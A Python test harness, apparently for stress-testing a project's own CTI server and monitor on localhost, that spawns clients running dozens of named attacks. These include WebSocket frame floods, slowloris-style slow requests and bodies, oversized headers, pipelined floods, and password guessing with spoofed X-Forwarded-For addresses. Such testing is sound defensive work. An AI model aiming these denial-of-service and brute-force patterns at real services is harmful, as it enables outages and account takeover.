"""Attacking clients in a process of their own; arguments: attack, count, two ports, valid tokens.

Each attack is what one client does again and again, for as long as the process lives.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager, suppress
from itertools import cycle
from struct import pack
from typing import Final

from attrs import frozen

HOST: Final = "127.0.0.1"
SCRIPT: Final = b"GET /vendor/jssip.js HTTP/1.1\r\nHost: x\r\n\r\n"
HEALTH: Final = b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n"
EACH: Final = 8
"""How many connections one client has at once in the attacks that are about their number."""

_MASK: Final = bytes(4)  # a mask of zeros costs the client nothing
CONT, TEXT, BINARY, CLOSE, PING, PONG = 0x0, 0x1, 0x2, 0x8, 0x9, 0xA
FIN, COMPRESSED = 0x80, 0x40


def frame(opcode: int, payload: bytes = b"", flags: int = FIN) -> bytes:
    """A frame as a client sends it."""
    if len(payload) < 126:
        head = pack("!BB", flags | opcode, 0x80 | len(payload))
    elif len(payload) < 2**16:
        head = pack("!BBH", flags | opcode, 0x80 | 126, len(payload))
    else:
        head = pack("!BBQ", flags | opcode, 0x80 | 127, len(payload))
    return head + _MASK + payload


def upgrade(token: str, more: bytes = b"") -> bytes:
    """A request for a WebSocket."""
    return (
        b"GET /xuc/api/2.0/cti?token=%b HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n%b\r\n"
    ) % (token.encode(), more)


@frozen
class Target:
    """What is attacked.

    Attributes:
        server: The port of the CTI server.
        monitor: That of the monitor.
        tokens: Good tokens, of several users.
    """

    server: int
    monitor: int
    tokens: Iterator[str]


Attack = Callable[[Target], Awaitable[None]]
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@asynccontextmanager
async def connected(port: int, first: bytes = b"") -> AsyncIterator[Streams]:
    """A connection on which something is sent at once."""
    reader, writer = await asyncio.open_connection(HOST, port, limit=2**20)
    try:
        writer.write(first)
        yield reader, writer
    finally:
        writer.transport.abort()


async def ends(reader: asyncio.StreamReader) -> None:
    """Read until the server closes the connection."""
    while await reader.read(2**20):
        pass


async def pour(writer: asyncio.StreamWriter, what: bytes, pause: float = 0.0) -> None:
    """Send the same for as long as the connection lives."""
    while True:
        writer.write(what)
        await writer.drain()
        await asyncio.sleep(pause)


def floods(what: bytes, token: str | None = None, *, reads: bool = True, first: bytes = b"") -> Attack:
    """A WebSocket that pours frames; with no token given, a good one."""

    async def attack(at: Target) -> None:
        begin = upgrade(token or next(at.tokens)) + first
        async with connected(at.server, begin) as (reader, writer):
            await reader.readuntil(b"\r\n\r\n")
            reading = asyncio.create_task(ends(reader)) if reads else None
            if reading is None:
                writer.transport.pause_reading()  # type: ignore[attr-defined]
            try:
                await pour(writer, what)
            finally:
                if reading is not None:
                    reading.cancel()

    return attack


def pours(
    what: bytes, *, first: bytes = b"", to_monitor: bool = False, reads: bool = True, pause: float = 0.0
) -> Attack:
    """A connection that pours bytes instead of requests, or after one."""

    async def attack(at: Target) -> None:
        port = at.monitor if to_monitor else at.server
        async with connected(port, first) as (reader, writer):
            reading = asyncio.create_task(ends(reader)) if reads else None
            if not reads:
                writer.transport.pause_reading()  # type: ignore[attr-defined]
            try:
                await pour(writer, what, pause)
            finally:
                if reading is not None:
                    reading.cancel()

    return attack


def asks(what: bytes, *, to_monitor: bool = False, reads: bool = False, each: int = EACH) -> Attack:
    """Connections that ask for something, and read nothing of it; or that say nothing at all."""

    async def one(at: Target) -> None:
        async with connected(at.monitor if to_monitor else at.server, what) as (reader, writer):
            if reads:
                await ends(reader)
            else:
                writer.transport.pause_reading()  # type: ignore[attr-defined]
                while not _is_cut(writer):  # noqa: ASYNC110 - what is not read says nothing
                    await asyncio.sleep(0.2)

    async def attack(at: Target) -> None:
        await asyncio.gather(*(one(at) for _ in range(each)), return_exceptions=True)

    return attack


def _is_cut(writer: asyncio.StreamWriter) -> bool:
    """Whether the server has ended a connection that is not read."""
    raw = writer.get_extra_info("socket")
    return raw is None or raw.fileno() < 0 or bool(raw.getsockopt(1, 4)) or _closed_wait(raw)


def _closed_wait(raw: object) -> bool:
    state = raw.getsockopt(6, 11, 1)[0]  # type: ignore[attr-defined] # TCP_INFO
    return bool(state in (7, 8))  # CLOSE, CLOSE_WAIT


async def comes_and_goes(at: Target) -> None:
    """Connect and close."""
    async with connected(at.server):
        pass


async def comes_and_goes_by_websocket(at: Target) -> None:
    """Log in by a good token, and vanish."""
    async with connected(at.server, upgrade(next(at.tokens))) as (reader, _):
        await reader.readuntil(b"LoggedOn")


async def bad_token_again_and_again(at: Target) -> None:
    """Come with a bad token, be refused, and come again."""
    async with connected(at.server, upgrade("bad")) as (reader, _):
        await ends(reader)


async def logs_in(at: Target) -> None:
    """Guess passwords."""
    body = json.dumps({"login": os.urandom(4).hex(), "password": "wrong"}).encode()
    head = (
        b"POST /xuc/api/2.0/auth/login HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
    )
    async with connected(at.server, head % len(body) + body) as (reader, _):
        await ends(reader)


async def logs_in_from_everywhere(at: Target) -> None:
    """Guess passwords from another address each time, as a proxy says."""
    body = b'{"login":"%b","password":"wrong"}' % os.urandom(4).hex().encode()
    head = b"X-Forwarded-For: 10.1.%d.%d\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
    asked = POST + head % (*os.urandom(2), len(body)) + body
    async with connected(at.server, asked) as (reader, _):
        await ends(reader)


def commands(*what: bytes) -> Attack:
    """A logged-in socket that gives commands as fast as it may, for ever."""

    async def attack(at: Target) -> None:
        async with connected(at.server, upgrade(next(at.tokens))) as (reader, writer):
            reading = asyncio.create_task(ends(reader))
            try:
                for command in cycle(what):
                    writer.write(frame(TEXT, command))
                    await writer.drain()
                    await asyncio.sleep(FASTEST)
            finally:
                reading.cancel()

    return attack


FASTEST: Final = 0.053
POST: Final = b"POST /xuc/api/2.0/auth/login HTTP/1.1\r\nHost: x\r\n"
CHUNKS: Final = b"1\r\nx\r\n" * 1000
CHUNKED: Final = b"Transfer-Encoding: chunked\r\n\r\n"
CLOSING: Final = b"Connection: close\r\n\r\n"
METRICS: Final = HEALTH.replace(b"health", b"metrics")
RANGES: Final = b"Range: bytes=" + b",".join(b"%d-%d" % (n, n + 5) for n in range(0, 9000, 9)) + b"\r\n\r\n"
HEADERS: Final = b"a:\r\n" * 3500 + b"\r\n"
HEARTBEAT: Final = frame(TEXT, b'{"claz":"ping"}')
COLLEAGUES: Final = frame(TEXT, b'{"claz":"web","command":"getColleagues","words":"a","size":500}')
SELECTED: Final = [
    b'{"claz":"web","command":"selectDevice","device":"%b"}' % one for one in (b"webrtc", b"deskphone")
]
PREFERRED: Final = (
    b'{"claz":"web","command":"setUserPreference","key":"a","value_type":"String","value":"%b"}'
)
WATCHED: Final = b'{"claz":"web","command":"subscribeToPhoneHints","phoneNumbers":["%b"]}'
NUMBERS: Final = b'","'.join(b"%d" % number for number in range(1000, 2000))
ATTACKS: Final[dict[str, Attack]] = {
    "empty pings": floods(frame(PING) * 5000),
    "pings and reads nothing": floods(frame(PING, b"x" * 125) * 500, reads=False),
    "empty fragments": floods(frame(CONT, flags=0) * 5000, first=frame(TEXT, flags=0)),
    "text fragments": floods(frame(CONT, b"x", flags=0) * 5000, first=frame(TEXT, b"x", flags=0)),
    "empty texts": floods(frame(TEXT) * 5000),
    "pongs": floods(frame(PONG) * 5000),
    "closes": floods(frame(CLOSE) * 5000),
    "compressed": floods(frame(TEXT, b"\x00" * 1000, FIN | COMPRESSED) * 100),
    "heartbeats": floods(HEARTBEAT * 1000),
    "commands": floods(COLLEAGUES * 200),
    "commands and reads nothing": floods(COLLEAGUES * 200, reads=False),
    "large frames": floods(frame(TEXT, b"[" * 16_000) * 20),
    "too large frames": floods(frame(TEXT, b"x" * 17_000) * 20),
    "a frame of many bytes that come singly": floods(b"x", first=frame(TEXT, b"x" * 16_000)[:8]),
    "no utf-8": floods(frame(TEXT, b"\xff") * 1000),
    "bad tokens that flood": floods(frame(PING) * 5000, "bad"),
    "bad tokens that flood and read nothing": floods(frame(PING) * 5000, "bad", reads=False),
    "bad tokens": bad_token_again_and_again,
    "scripts that nobody reads": asks(SCRIPT),
    "scripts that nobody reads and many ranges": asks(SCRIPT[:-2] + RANGES),
    "scripts": asks(SCRIPT[:-2] + CLOSING, reads=True),
    "scripts by HTTP/1.0": asks(SCRIPT.replace(b"1.1", b"1.0"), reads=True),
    "scripts pipelined": pours(SCRIPT * 100, reads=False),
    "requests pipelined": pours(b"GET /xuc/api/2.0/auth/check HTTP/1.1\r\nHost: x\r\n\r\n" * 100),
    "silence": asks(b""),
    "half requests": asks(SCRIPT[:-2]),
    "header after header": pours(b"a: b\r\n", first=SCRIPT[:-2], pause=0.01),
    "many headers": asks(SCRIPT[:-2] + HEADERS, reads=True),
    "large headers": asks(SCRIPT[:-2] + b"a: " + b"x" * 15_000 + b"\r\n\r\n", reads=True),
    "slow bodies": asks(POST + b"Content-Length: 4000\r\n\r\n{"),
    "bodies without end": pours(b"x" * 10_000, first=SCRIPT[:-2] + b"Content-Length: 99999999999\r\n\r\n"),
    "bodies of tiny chunks": pours(CHUNKS, first=SCRIPT[:-2] + CHUNKED),
    "log-in bodies of tiny chunks": pours(CHUNKS, first=POST + CHUNKED),
    "rubbish": pours(os.urandom(4000)),
    "other upgrades": asks(SCRIPT[:-2] + b"Upgrade: h2c\r\nConnection: Upgrade, close\r\n\r\n", reads=True),
    "bad handshakes": asks(upgrade("x").replace(b"dGhl", b"dGh"), reads=True),
    "bad origins": asks(upgrade("x", b"Origin: http://[\r\n"), reads=True),
    "log-ins": logs_in,
    "log-ins from everywhere": logs_in_from_everywhere,
    "long requests for WebSockets": asks(upgrade("x" * 9000)),
    "selections that all tabs are shown": commands(*SELECTED),
    "preferences that all tabs are shown": commands(PREFERRED % (b"x" * 1000)),
    "numbers to watch": commands(WATCHED % NUMBERS),
    "connect and close": comes_and_goes,
    "enter and vanish": comes_and_goes_by_websocket,
    "silence at the monitor": asks(b"", to_monitor=True),
    "half requests at the monitor": asks(HEALTH[:-2], to_monitor=True),
    "metrics that nobody reads": pours(METRICS * 100, to_monitor=True, reads=False),
    "metrics": asks(METRICS[:-2] + b"Connection: close\r\n\r\n", to_monitor=True, reads=True),
    "rubbish at the monitor": pours(os.urandom(4000), to_monitor=True),
    "many headers at the monitor": asks(HEALTH[:-2] + HEADERS, to_monitor=True, reads=True),
}  # fmt: skip


async def again_and_again(attack: Attack, at: Target) -> None:
    """What one client does."""
    while True:
        with suppress(OSError, EOFError, asyncio.LimitOverrunError):
            await attack(at)
        await asyncio.sleep(0)


async def main(name: str, clients: int, server: int, monitor: int, tokens: list[str]) -> None:
    """Let so many clients attack until the process is ended."""
    at = Target(server, monitor, cycle(tokens))
    await asyncio.gather(*(again_and_again(ATTACKS[name], at) for _ in range(clients)))


if __name__ == "__main__":
    os.nice(10)
    _, _name, _clients, _server, _monitor, *_tokens = sys.argv
    asyncio.run(main(_name, int(_clients), int(_server), int(_monitor), _tokens))
